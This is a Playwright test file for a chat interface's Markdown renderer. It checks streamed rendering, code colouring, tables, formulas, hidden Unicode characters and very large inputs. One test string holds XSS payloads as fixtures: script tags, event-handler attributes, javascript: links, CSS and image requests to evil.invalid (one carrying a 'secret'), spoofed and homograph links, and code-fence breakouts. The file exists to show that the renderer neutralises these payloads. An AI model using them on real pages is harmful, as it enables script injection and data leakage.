"""What answers look like in a real Chromium: Markdown, code, tables and formulas, in any pieces, whatever they try."""

import random

import pytest
from playwright.sync_api import expect

from tests.e2e.playground.browser import CHROMIUM, Tab

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here: as root, apt-get install chromium")

# Put on the page, so that tests read as what they check.
HELPERS = """async () => {
  const { MarkdownView } = await import("/static/js/text/render.js");
  window.show = (chunks, isComplete = true) => {
    const root = document.createElement("div");
    root.className = "text";
    root.id = "shown";
    document.getElementById("shown")?.remove();
    document.getElementById("scroll").append(root);
    const view = new MarkdownView(root);
    for (const chunk of chunks) view.append(chunk);
    if (isComplete) view.finish();
    return root;
  };
  window.cut = (text, places) => {
    const ends = [...places, text.length];
    return ends.map((end, k) => text.slice(k ? ends[k - 1] : 0, end));
  };
}"""

NASTY = """# Title *with* `marks` #
A paragraph\r\nof **two lines** with a [link](https://a.b/c "t"), <b>tags</b> and 👩‍👧 e\u0301 \\*stars\\*.
Setext
------
- one
  continued
  - nested `code`
    1. deep **bold
- [ ] to do
- [x] done

  loose paragraph
10) ten
11) eleven

> quote
lazy line
> > deeper
> - item

| a | b \\| c |
|:--|:-:|--:|
| 1 | **2** |

| a | b |
|---|:-:|
| `x|y` | 2 | 3 |
text after

```python
def f():
\tprint("``` not yet")

~~~
```
    indented code

~~~
open tilde
~~~
$x_1 * y$ costs $5 and $10, \\(a*b*c\\) and \\[d\\]
$$
\\frac{1}{2}
$$
***bold italic*** _it_ ~~del~~ **unclosed `tick
<script>alert(1)</script>
<!-- comment
![pic](https://e.f/g.png) https://auto.link/x?y=(z). a@b.co &lt;&#x202e;&copy;
\u202eoverride\u202c \x1b[31mred\x1b[0m

***
[ref] and [other][ref]
===

[ref]: https://r.ef "title"

last line\\
ends  \nhere
```js
never closed"""

PIECES = (
    *("# head", "- a", "-", " b", "\n", "\n\n", "```", "``", "`", "x", "**", "*", "_", "~~", "1. ", "10) ", "    ", "> ", "|"),
    *(
        "a | b",
        "|---|---|",
        "---",
        "\n- ",
        "\n  - ",
        "\n```js\n",
        "[l](http",
        "s://x.y/z)",
        "<b>",
        "https://e.f",
        "\\",
        "é",
        "🙂",
    ),
    *("$", "$$", "\\(", "\\)", "\n$$\n", "\\[", "\\]", "[r]: http://z", "\n[r]", "\t", "&amp;", "<div>", "===", "\r\n", "- [ ] "),
)

# Shows each text in its pieces and whole. Blocks that had three blocks behind them must still be the nodes they were.
COMPARE = """([cases, mayReplace]) => cases.filter(([text, places]) => {
  const root = document.createElement("div");
  const kept = [];
  const pieces = cut(text, places);
  const view = new (show.View ??= window.View)(root);
  for (const piece of pieces) {
    view.append(piece);
    for (let k = kept.length; k < root.children.length - 2; k += 1) kept.push(root.children[k]);
  }
  view.finish();
  const moved = kept.some((node, k) => root.children[k] !== node);
  return root.innerHTML !== show([text]).innerHTML || (moved && !mayReplace);
})"""
EXPOSE_VIEW = '() => import("/static/js/text/render.js").then(({ MarkdownView }) => { window.View = MarkdownView; })'


def places(choose: random.Random, length: int, count: int) -> list[int]:
    return sorted(choose.randrange(length) for _ in range(count))


@pytest.fixture
def shown(tab: Tab) -> Tab:
    tab.open().page.evaluate(HELPERS)
    tab.page.evaluate(EXPOSE_VIEW)
    return tab


def utf16(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


def test_nasty_text_cut_anywhere_ends_as_the_same_nodes(shown: Tab) -> None:
    choose = random.Random(5)
    length = utf16(NASTY)
    cases = [[NASTY, places(choose, length, count)] for count in (1, 1, 3, 10, 40, 150) for _ in range(4)]
    cases.append([NASTY, list(range(1, length))])  # every single unit, halves of surrogate pairs too
    assert shown.page.evaluate(COMPARE, [cases, True]) == []
    shown.check_clean()


def test_finished_blocks_keep_their_nodes_to_the_end(shown: Tab) -> None:
    text = "\n\n".join(block for block in NASTY.split("\n\n") if "[ref]" not in block)  # a definition may change what is above it
    cases = [[text, list(range(step, utf16(text), step))] for step in (1, 2, 7, 50)]
    assert shown.page.evaluate(COMPARE, [cases, False]) == []


def test_made_up_texts_in_pieces_end_as_the_same_nodes(shown: Tab) -> None:
    choose = random.Random(8)
    cases = []
    for _ in range(3000):
        text = "".join(choose.choice(PIECES) for _ in range(choose.randint(2, 16)))
        cases.append([text, places(choose, utf16(text), choose.randint(1, 12))])
    assert shown.page.evaluate(COMPARE, [cases, True]) == []


def test_structure_of_an_answer_is_shown(shown: Tab) -> None:
    lists = "3. three\n4. four\n   - in\n\n- [x] done\n- [ ] open\n\n"
    text = lists + "|a|b|c|\n|-|:-:|-:|\n|1|2|**3**|\n\na  \nb\n\n&lt;b&gt; ~~no~~ x<br>y"
    shown.page.evaluate("(text) => void show([text])", text)
    root = shown.page.locator("#shown")
    expect(root.locator("ol")).to_have_attribute("start", "3")
    expect(root.locator("ol > li > ul > li")).to_have_text("in")
    assert root.get_by_role("img").evaluate_all("(all) => all.map((one) => one.ariaLabel)") == ["Done", "To do"]
    aligned = root.locator("td").evaluate_all("(cells) => cells.map((cell) => getComputedStyle(cell).textAlign)")
    assert aligned == ["left", "center", "right"]
    assert root.locator("td strong").count() == 1 and root.locator("p br").count() == 2
    expect(root.locator("p").last).to_have_text("<b> no xy")


@pytest.mark.parametrize(
    ("so_far", "selector", "count"),
    [
        ("A list:\n-", "h3, h4", 0),
        ("it is **bold and", "strong", 1),
        ("it is **", "text=**", 0),
        ("call `foo(", "code", 1),
        ("see [the docs](https://exa", "text=https", 0),
        ("| a | b |\n|--", "table", 1),
        ("text\n```", "text=```", 0),
        ("$$\n\\frac{1}{", ".math.source", 1),
    ],
)
def test_marks_under_way_are_shown_as_what_they_become(shown: Tab, so_far: str, selector: str, count: int) -> None:
    shown.page.evaluate("(text) => void show([text], false)", so_far)
    expect(shown.page.locator("#shown").locator(selector)).to_have_count(count)


HOSTILE = """<script>hacked(1)</script><img src=x onerror="hacked(2)"><svg onload="hacked(3)"><a href="javascript:hacked(4)">x</a>

<iframe srcdoc="<script>hacked(5)</script>"></iframe><style>*{background:url(https://evil.invalid/s)}</style>
<link rel=stylesheet href=//evil.invalid>

[a](javascript:hacked(6)) [b](JaVaScRiPt:hacked(7)) [c](data:text/html,x) [d](vbscript:x) [e](&#106;avascript:hacked(8)) 
[f](//evil.invalid) [g](file:///etc)
[h]( javascript:hacked(9)) [i](<java
script:hacked(10)>) <javascript:hacked(11)> [j][k] ![l](javascript:hacked(12)) ![m](data:image/svg+xml,<svg/>)

[k]: javascript:hacked(13)

![tracker](https://evil.invalid/pixel.png?secret) [![both](https://evil.invalid/p.gif)](https://evil.invalid/q)
[https://bank.example](https://evil.invalid/) [bank.example evil.invalid](https://evil.invalid) 
https://bank.example@evil.invalid/ [x](http://еvil.invalid)

$\\href{javascript:hacked(14)}{x}$ $\\class{x}{y}$ $$\\includegraphics{https://evil.invalid/i.png}$$

$\\style{background:url(https://evil.invalid/m)}{x}$ $\\def\\a{\\a\\a}\\a$

```html"><script>hacked(15)</script>
</code></pre><script>hacked(16)</script>
```
```html
<script>hacked(17)</script>
```
"""
LINKS = """(all) => all.map((a) => {
  const saysItself = URL.canParse(a.textContent) && new URL(a.textContent).href === a.href && !a.username;
  return [a.protocol, a.host, a.rel, saysItself || a.textContent.includes(`(${a.host})`)];
})"""
ALLOWED = {
    *("a", "bdi", "blockquote", "br", "button", "code", "del", "div", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre"),
    *("span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul", "math", "mrow", "mi", "mo", "mn", "mtext", "mstyle"),
    *("mspace", "mpadded", "menclose", "mfrac", "msup", "msub", "merror", "semantics"),
}


@pytest.mark.parametrize("step", [10_000, 5])
def test_nothing_hostile_runs_or_is_fetched(shown: Tab, step: int) -> None:
    asked = len(shown.requests)
    shown.page.evaluate("() => { window.hacks = []; window.hacked = (what) => hacks.push(what); }")
    shown.page.evaluate("([text, places]) => void show(cut(text, places))", [HOSTILE, list(range(step, utf16(HOSTILE), step))])
    root = shown.page.locator("#shown")
    expect(root.locator(".hljs-tag").first).to_be_visible()  # colours came: all that is lazy is there
    expect(root.locator(".math[title]").first).to_be_visible()
    for link in root.locator("a").all():
        link.evaluate(
            "(link) => { link.target = ''; link.addEventListener('click', (event) => event.preventDefault()); link.click(); }"
        )
    assert shown.page.evaluate("() => hacks") == []
    tags = set(root.locator("*").evaluate_all("(all) => all.map((one) => one.localName)"))
    assert tags <= ALLOWED
    names = set(root.locator("*").evaluate_all("(all) => all.flatMap((one) => one.getAttributeNames())"))
    assert not {
        name for name in names if name.startswith("on") or name in ("src", "srcdoc", "action", "background", "xlink:href")
    }
    links = root.locator("a").evaluate_all(LINKS)
    assert {(protocol, rel) for protocol, _, rel, _ in links} <= {
        ("https:", "noopener noreferrer nofollow"),
        ("http:", "noopener noreferrer nofollow"),
    }
    assert [link for link in links if not link[3]] == []  # behind a label that is not the address stands the host
    assert root.locator("a a").count() == 0
    assert any(host.startswith("xn--") for _, host, _, _ in links)
    text = root.evaluate("(root) => root.textContent")
    for kept in ("<script>hacked(1)</script>", 'onerror="hacked(2)"', "[a](javascript:hacked(6))", "<script>hacked(16)</script>"):
        assert kept in text
    assert [url for url in shown.requests[asked:] if "/static/" not in url and not url.endswith("/v1/ws")] == []
    shown.check_clean()


def test_hidden_characters_are_named_and_have_no_effect(shown: Tab) -> None:
    flag = "🏴\U000e0067\U000e0062\U000e007f"
    text = f"a\u202eb\u2066c \x1b[31mred \x00 tag\U000e0041 {flag} ok\n\n```py\nx = '\u202e' # \u2067\n```\n"
    shown.page.evaluate("(text) => void show([text])", text)
    root = shown.page.locator("#shown")
    names = root.locator("bdi").evaluate_all("(all) => all.map((one) => one.dataset.name)")
    assert names == ["U+202E", "U+2066", "ESC", "NUL", "U+E0041", "U+202E", "U+2067"]
    assert root.locator("bdi").first.evaluate("(one) => one.getBoundingClientRect().width") > 10
    expect(root.locator(".hljs-string")).to_have_count(1)
    assert root.locator("code").evaluate("(code) => code.textContent") == "x = '\u202e' # \u2067"
    assert "a\u202eb\u2066c \x1b[31mred" in root.evaluate("(root) => root.textContent")


def test_code_is_coloured_once_its_fence_closes_and_its_text_stays(shown: Tab) -> None:
    code = 'def f(x: int) -> str:\n    """Doc."""\n\n    return f"{x}" # <b>&amp;</b>\n'
    shown.page.evaluate(
        """(code) => {
          const root = show(["```python\\n"], false);
          window.view = new View(root.appendChild(document.createElement("section")));
          for (const char of "```python\\n" + code) window.view.append(char);
        }""",
        code,
    )
    block = shown.page.locator("#shown section .code")
    expect(block.locator(".line")).to_have_count(4)
    assert not any("highlight" in url for url in shown.requests)
    line = block.locator(".line").first.element_handle()
    shown.page.evaluate("() => window.view.append('```\\n\\n')")
    expect(block.locator(".hljs-keyword").first).to_have_text("def")
    assert block.locator("code").evaluate("(node) => node.textContent") == code.rstrip("\n")
    assert not line.evaluate("(node) => node.isConnected")
    coloured = block.locator(".hljs-keyword").first.element_handle()
    shown.page.evaluate("() => { window.view.append('after'); window.view.finish(); }")
    assert coloured.evaluate("(node) => node.isConnected")
    copied = block.locator("code").evaluate(
        "(node) => { getSelection().selectAllChildren(node); return getSelection().toString(); }"
    )
    assert copied == code.rstrip("\n")
    shown.check_clean()


GROW_COLOURED = """async () => {
  const { updateCode } = await import("/static/js/text/render-code.js");
  const was = { kind: "code", language: "js", text: "let a;", isComplete: true };
  updateCode(document.querySelector("#shown .code"), was, { ...was, text: "let a;\\nlet b;", isComplete: false });
}"""


def test_coloured_code_that_grows_after_all_is_lines_again(shown: Tab) -> None:
    shown.page.evaluate("() => void show(['```js\\nlet a;\\n```'])")
    code = shown.page.locator("#shown code")
    expect(code.locator(".hljs-keyword")).to_have_count(1)
    shown.page.evaluate(GROW_COLOURED)
    assert code.evaluate("(node) => node.textContent") == "let a;\nlet b;"
    expect(code.locator(".line")).to_have_count(2)


def test_lines_of_open_code_are_added_and_copied_as_they_are(shown: Tab) -> None:
    shown.page.evaluate("() => { window.view = new View(show([''])); window.view.append('```\\none\\n\\n  two\\nthr'); }")
    code = shown.page.locator("#shown code")
    first = code.locator(".line").first.element_handle()
    shown.page.evaluate("() => window.view.append('ee\\nfour')")
    assert first.evaluate("(node) => node.isConnected")
    copied = code.evaluate("(node) => { getSelection().selectAllChildren(node); return getSelection().toString(); }")
    assert copied == code.evaluate("(node) => node.textContent") == "one\n\n  two\nthree\nfour"


def test_long_code_is_coloured_only_when_asked_for(shown: Tab) -> None:
    shown.page.evaluate("() => void show(['```js\\n' + 'let a = 1;\\n'.repeat(4000) + '```'])")
    button = shown.page.get_by_role("button", name="Colour", exact=True)
    expect(button).to_be_visible()
    assert not any("highlight" in url for url in shown.requests)
    button.click()
    expect(shown.page.locator("#shown .hljs-keyword").first).to_have_text("let")
    expect(button).to_have_count(0)


def test_formulas_become_mathml_and_money_does_not(shown: Tab) -> None:
    shown.page.evaluate("() => void show(['It costs $5 or $10, `$x$` and $HOME/$USER.'])")
    assert shown.page.locator("#shown .math").count() == 0 and not any("temml" in url for url in shown.requests)
    matrix = "\\begin{pmatrix}1&2\\\\3&4\\end{pmatrix}"
    text = f"Inline $x_1^2$ and \\(a*b*c\\).\n\n$$\n\\int_0^1 \\frac{{1}}{{x}}\\,dx\n$$\n\n- \\[{matrix}\\]\n\n$\\nosuch{{1}}$"
    shown.page.evaluate("(text) => void show([text])", text)
    root = shown.page.locator("#shown")
    expect(root.locator("math")).to_have_count(4)
    expect(root.locator("math[display=block]")).to_have_count(2)
    expect(root.locator("math mfrac")).to_have_count(1)
    expect(root.locator("li math mtable")).to_have_count(1)
    expect(root.locator(".math.source")).to_have_text("\\nosuch{1}")
    assert root.locator("em").count() == 0
    shown.check_clean()


@pytest.mark.parametrize(
    "made",
    [
        "'a '.repeat(500_000)",
        "'> '.repeat(20_000) + 'x'",
        "'- '.repeat(20_000) + 'x'",
        "'*a **b '.repeat(5_000)",
        "'[a]('.repeat(5_000)",
    ],
)
def test_text_without_measure_leaves_the_page_alive(shown: Tab, made: str) -> None:
    length, whole = shown.page.evaluate(
        f"() => {{ const text = {made}; return [show(cut(text, [10, 5000])).textContent.length, text.length]; }}"
    )
    assert length >= whole - 2 or "> " in made or "- " in made  # marks of quotes and lists that were shown as such are gone
    shown.page.evaluate("() => document.getElementById('shown').remove()")
    expect(shown.page.get_by_label("Message", exact=True)).to_be_editable()
    shown.check_clean()
